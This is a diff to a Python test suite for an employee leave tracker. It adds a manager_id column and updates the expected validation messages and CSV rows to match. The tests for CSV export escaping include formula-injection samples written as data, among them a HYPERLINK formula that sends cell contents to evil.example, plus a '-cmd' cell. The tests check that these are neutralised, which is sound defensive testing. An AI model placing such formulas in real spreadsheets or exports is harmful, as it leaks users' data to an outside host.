@@ -195,7 +195,7 @@ async def test_every_problem_in_a_json_file_is_reported_and_nothing_written(
         f"{j}:employees[2] (J1): employee_id: duplicate employee_id J1 (also at {j}:employees[0] (J1))",
         f"{j}:employees[3]: entry: must be an object",
         f"{j}:employees[4] (J4): extra: unknown key (expected one of active, annual_leave, below_80, email, "
-        "employee_id, end_date, hire_date, leave_taken, name, slack_user_id, weekly_hours)",
+        "employee_id, end_date, hire_date, leave_taken, manager_id, name, slack_user_id, weekly_hours)",
         f'{j}:employees[4] (J4): annual_leave.20x6: "20x6" is not a year YYYY',
         f'{j}:employees[4] (J4): annual_leave.2027: must be an object like {{"granted": 15, "used": 7.5}}',
         f"{j}:employees[4] (J4): annual_leave.2028.granted: must be a number",
@@ -250,7 +250,7 @@ REFUSALS: list[tuple[dict[str, str | bytes], list[str]]] = [
         {"a.csv": "id,name\nE1,x\n"},
         [
             "{d}/a.csv:1: header: columns id,name are none of the accepted sets: employees: employee_id,name,email,"
-            "slack_user_id,hire_date (+ optional active,end_date,weekly_hours,below_80); grants: employee_id,year,granted (+ optional "
+            "slack_user_id,hire_date (+ optional active,end_date,weekly_hours,below_80,manager_id); grants: employee_id,year,granted (+ optional "
             "opening_used,allow_negative); leave: employee_id,date,days,type,note"
         ],
     ),
@@ -258,7 +258,7 @@ REFUSALS: list[tuple[dict[str, str | bytes], list[str]]] = [
         {"a.csv": "employee_id,year,granted,year\n"},
         [
             "{d}/a.csv:1: header: columns employee_id,year,granted,year are none of the accepted sets: "
-            "employees: employee_id,name,email,slack_user_id,hire_date (+ optional active,end_date,weekly_hours,below_80); grants: "
+            "employees: employee_id,name,email,slack_user_id,hire_date (+ optional active,end_date,weekly_hours,below_80,manager_id); grants: "
             "employee_id,year,granted (+ optional opening_used,allow_negative); leave: employee_id,date,days,"
             "type,note"
         ],
@@ -267,7 +267,7 @@ REFUSALS: list[tuple[dict[str, str | bytes], list[str]]] = [
         {"a.csv": "\n"},
         [
             "{d}/a.csv:1: header: the file is empty; expected employees: employee_id,name,email,"
-            "slack_user_id,hire_date (+ optional active,end_date,weekly_hours,below_80); grants: employee_id,year,granted "
+            "slack_user_id,hire_date (+ optional active,end_date,weekly_hours,below_80,manager_id); grants: employee_id,year,granted "
             "(+ optional opening_used,allow_negative); leave: employee_id,date,days,type,note"
         ],
     ),
@@ -462,7 +462,7 @@ async def store_formula_like_text(engine: AsyncEngine, directory: Path) -> None:
     people = write(
         directory,
         "people.csv",
-        csv_text([EMPLOYEE_COLUMNS, *((*row, "", "", "true", "", "", "") for row in FORMULA_EMPLOYEES)]),
+        csv_text([EMPLOYEE_COLUMNS, *((*row, "", "", "true", "", "", "", "") for row in FORMULA_EMPLOYEES)]),
     )
     ids = [row[0] for row in FORMULA_EMPLOYEES] + [row[0] for row in WRITTEN_BY_OTHER_TOOLS]
     grants = write(
@@ -524,7 +524,7 @@ async def stored_rows(engine: AsyncEngine) -> tuple[list[tuple[object, ...]], ..
         grants = await connection.execute(
             select(leave_grants).order_by(leave_grants.c.employee_id, leave_grants.c.year)
         )
-        columns = [column for column in leave_records.c if column.name != "id"]
+        columns = [column for column in leave_records.c if column.name not in ("id", "request_id")]
         records = await connection.execute(
             select(*columns).order_by(
                 leave_records.c.employee_id, leave_records.c.taken_on, leave_records.c.id
@@ -576,14 +576,14 @@ async def test_csv_export_writes_no_cell_a_spreadsheet_would_run(
     ] == []
     employees_csv = files["employees.csv"].split("\n")  # a cell holds a \r
     assert (
-        'F1,"\'=HYPERLINK(""http://evil.example/""&A1,""click"")",\'=f1@evil.example,,,true,,,'
+        'F1,"\'=HYPERLINK(""http://evil.example/""&A1,""click"")",\'=f1@evil.example,,,true,,,,'
         in employees_csv
     )
-    assert "F5,''Ollie,''ollie@example.com,,,true,,," in employees_csv
-    assert "F8,-1.5,f8@example.com,,,true,,," in employees_csv
-    assert "'-cmd,'-2+3,'-f3@example.com,,,true,,," in employees_csv
-    assert "F6,'\t=1+1,'\tf6@example.com,,,true,,," in employees_csv
-    assert 'F7,"\'\r=1+1","\'\rf7@example.com",,,true,,,' in employees_csv
+    assert "F5,''Ollie,''ollie@example.com,,,true,,,," in employees_csv
+    assert "F8,-1.5,f8@example.com,,,true,,,," in employees_csv
+    assert "'-cmd,'-2+3,'-f3@example.com,,,true,,,," in employees_csv
+    assert "F6,'\t=1+1,'\tf6@example.com,,,true,,,," in employees_csv
+    assert 'F7,"\'\r=1+1","\'\rf7@example.com",,,true,,,,' in employees_csv
     assert files["grants.csv"].splitlines()[1:] == [
         "'-cmd,2026,1,0,false",
         "F1,2025,1,-1.5,true",
@@ -631,7 +631,7 @@ async def test_a_hand_written_leading_quote_is_kept(database: ScratchDatabase, t
         ("'\t@A1", "\t@A1", "'\t@A1"),
     ]
     rows = [
-        (f"E{i}", written, f"e{i}@x.kr", "", "", "true", "", "", "")
+        (f"E{i}", written, f"e{i}@x.kr", "", "", "true", "", "", "", "")
         for i, (written, _, _) in enumerate(cases)
     ]
     await import_files(database.engine, [write(tmp_path, "people.csv", csv_text([EMPLOYEE_COLUMNS, *rows]))])
